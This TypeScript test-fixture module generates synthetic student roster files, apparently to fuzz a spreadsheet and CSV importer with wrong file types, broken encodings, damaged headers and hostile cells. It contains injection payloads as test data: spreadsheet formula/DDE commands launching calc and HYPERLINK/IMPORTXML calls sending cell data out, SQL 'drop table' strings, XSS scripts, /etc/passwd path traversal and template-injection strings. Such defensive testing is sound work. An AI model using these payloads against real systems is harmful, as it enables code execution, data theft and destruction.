import { checkCharacterOf } from '../../src/kernel/citizen-id.ts'
import { rawXlsx, textRow, zipOf } from '../../src/platform/tables/testing/raw-xlsx.ts'
import { encodeGb18030 } from '../../src/simulator/files/gb18030.ts'
import type { Chance } from './chance.ts'

export const HEAD = ['姓名', '性别', '出生日期', '身份证号', '监护人', '联系电话', '就学状态']

/** A made-up child as a village would write it. */
export function honestRow(chance: Chance): string[] {
  const born = `${2011 + chance.below(9)}${String(1 + chance.below(12)).padStart(2, '0')}${String(1 + chance.below(28)).padStart(2, '0')}`
  const first17 = `540199${born}${String(chance.below(1000)).padStart(3, '0')}`
  const name = chance.pick([...'扎卓格次尼索']) + chance.pick([...'西玛桑仁珠达']) + chance.pick([...'拉措吉'])
  const day = `${born.slice(0, 4)}-${born.slice(4, 6)}-${born.slice(6)}`
  return [
    name,
    chance.pick(['男', '女']),
    day,
    first17 + checkCharacterOf(first17),
    '央金',
    `139${10_000_000 + chance.below(80_000_000)}`,
    '在校',
  ]
}

const honest = (chance: Chance, count = 30): string[][] => Array.from({ length: count }, () => honestRow(chance))
const csvOf = (rows: readonly (readonly string[])[]): string =>
  rows
    .map((row) => row.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell)).join(','))
    .join('\r\n')
const xlsxOf = (rows: readonly (readonly string[])[]): Buffer =>
  rawXlsx({ sheets: [{ name: 'S', data: rows.map((row, index) => textRow(index + 1, row)).join('') }] })
const inEither = (index: number, rows: readonly (readonly string[])[]): readonly [string, Buffer | string] =>
  index % 2 === 0 ? ['list.xlsx', xlsxOf(rows.map((row) => row.map(withoutForbidden)))] : ['list.csv', csvOf(rows)]
/** What XML cannot hold would make the file unreadable instead of hostile. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what XML forbids
const withoutForbidden = (text: string): string =>
  text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, '').toWellFormed()

/** Files that are something else, under the name of a table. */
export function wrongTypes(index: number, chance: Chance): readonly [string, Buffer | string] {
  const kinds: readonly (readonly [string, () => Buffer | string])[] = [
    ['empty.xlsx', () => ''],
    ['pdf.xlsx', () => `%PDF-1.7\n${chance.bytes(5000).toString('latin1')}`],
    ['picture.xls', () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chance.bytes(5000)])],
    ['noise.xlsx', () => chance.bytes(20_000)],
    ['noise.csv', () => chance.bytes(20_000)],
    ['noise.xls', () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), chance.bytes(20_000)])],
    ['zip-noise.xlsx', () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), chance.bytes(20_000)])],
    ['word.xlsx', () => zipOf({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>' })],
    ['other.zip', () => zipOf({ 'a.txt': 'x'.repeat(1000) })],
    ['login.xls', () => '<html><head><title>登录</title></head><body><form>请先登录</form></body></html>'],
    ['letter.csv', () => '各乡镇人民政府:\n现将有关事项通知如下。\n一、加强领导\n'],
    ['object.csv', () => JSON.stringify({ rows: honest(chance) })],
    ['program.xlsx', () => Buffer.concat([Buffer.from('MZ'), chance.bytes(8000)])],
    ['macro.xlsb', () => zipOf({ '[Content_Types].xml': '<Types/>', 'xl/workbook.bin': chance.bytes(500) })],
    ['office.ods', () => zipOf({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet', 'content.xml': '<x/>' })],
    [
      'numbers.csv',
      () =>
        Array.from({ length: 500 }, () => [chance.below(99), chance.below(99), chance.below(99)].join(',')).join('\n'),
    ],
    ['archive.xlsx', () => Buffer.concat([Buffer.from('1f8b0800', 'hex'), chance.bytes(4000)])],
    ['one-byte.csv', () => 'x'],
    ['no-workbook.xlsx', () => zipOf({ '[Content_Types].xml': '<Types/>', '_rels/.rels': '<Relationships/>' })],
    ['drawing.xls', () => '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
  ]
  const [name, make] = kinds[index % kinds.length]!
  return [name, make()]
}

export const FORMULAS = [
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://127.0.0.1/?"&A1,"点")',
  "@SUM(1+1)*cmd|' /c calc'!A0",
  '+1+cmd|x',
  '-1+1',
  '\t=1+1',
  '=DDE("cmd";"/c calc";"x")',
  '=IMPORTXML(CONCAT("http://127.0.0.1/?",A1),"//a")',
  '＝1+1',
  '=1+1";=1+1',
]

/** Lists whose cells, heads or all would run if somebody opened what we give back. */
export function formulas(index: number, chance: Chance): readonly [string, Buffer | string] {
  const rows = honest(chance, 12)
  for (const [position, row] of rows.entries()) {
    if (position % 3 === 0) continue
    row[index % row.length] = FORMULAS[(index + position) % FORMULAS.length]!
    if (position % 3 === 2) row[(index + 3) % row.length] = chance.pick(FORMULAS)
  }
  const head = index % 5 === 0 ? [...HEAD, chance.pick(FORMULAS)] : HEAD
  return inEither(index, [head, ...rows.map((row) => (head === HEAD ? row : [...row, chance.pick(FORMULAS)]))])
}

/** Texts in encodings that are none, others, or several at once. */
export function wrongEncodings(index: number, chance: Chance): readonly [string, Buffer | string] {
  const text = csvOf([HEAD, ...honest(chance)])
  const gb = encodeGb18030(text)
  const broken = Buffer.from(text)
  for (let left = 30; left > 0; left--) broken[chance.below(broken.length)] = 0xff
  const kinds: readonly (() => Buffer)[] = [
    () => Buffer.from(gb),
    () => Buffer.from(`\ufeff${text}`, 'utf16le'),
    () => Buffer.from(text, 'utf16le'),
    () => Buffer.from(`\ufeff${text}`, 'utf16le').swap16(),
    () => broken,
    () => Buffer.concat([Buffer.from('\ufeff'), Buffer.from(gb)]),
    () => Buffer.concat([Buffer.from(text), Buffer.from(gb)]),
    () => Buffer.from(text, 'latin1'),
    () => Buffer.from(gb).subarray(0, gb.length - 1),
    () => Buffer.from([...Buffer.from(gb)].map((byte) => (byte > 0x7f && chance.below(20) === 0 ? 0x80 : byte))),
  ]
  return [`encoding-${index % kinds.length}.csv`, kinds[index % kinds.length]!()]
}

/** Heads that are doubled, missing, endless, or words of JavaScript. */
export function damagedHeads(index: number, chance: Chance): readonly [string, Buffer | string] {
  const rows = honest(chance)
  const heads: readonly (readonly string[])[] = [
    HEAD.map(() => '姓名'),
    ['姓名', '姓名', '身份证号', '身份证号', '出生日期', '出生日期', '性别'],
    ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'prototype'],
    ['姓名', '__proto__', '出生日期', 'constructor', '性别', 'length', '__proto__'],
    HEAD.map(() => ''),
    HEAD.map((head) => head.repeat(500)),
    [...HEAD, ...Array.from({ length: 900 }, (_, i) => `列${i}`)],
    HEAD.map((head) => `<script>alert("${head}")</script>`),
    ['姓名', '身份证号;drop table rosters.roster;--', '性别', '出生日期', '{{value}}', '../../etc/passwd', '%s%n'],
    [...HEAD].reverse(),
  ]
  const head = heads[index % heads.length]!
  const aligned = index % heads.length === 9 ? rows.map((row) => [...row].reverse()) : rows
  return inEither(index, index % 4 === 3 ? [head, ...aligned, head, ...aligned] : [head, ...aligned])
}

const HOSTILE = [
  "'; drop table rosters.roster; --",
  '<img src=x onerror=alert(1)>',
  '\u202e芳王',
  '\u0000\u0001\u0007',
  '王\ud83d芳',
  '𠮷'.repeat(400),
  '_x0000_',
  '../../../../etc/passwd',
  '${process.exit(1)}',
  '{{constructor.constructor("return process")()}}',
  '1e308',
  '-0',
  '９９９９９９９９９９９９９９９９９９',
  'NaN',
  '\u200b'.repeat(100),
  '"'.repeat(50),
  'a\r\nb\r\nc',
  '王芳|李明|warnings',
  '\\N',
  '👨‍👩‍👧‍👦',
]

/** Cells that try the database, the page, the log, the file system and the reader's patience. */
export function hostileCells(index: number, chance: Chance): readonly [string, Buffer | string] {
  const rows = honest(chance, 24)
  for (const row of rows) if (chance.below(3) > 0) row[chance.below(row.length)] = chance.pick(HOSTILE)
  rows.push(HEAD.map(() => HOSTILE[index % HOSTILE.length]!))
  return inEither(index, [HEAD, ...rows])
}
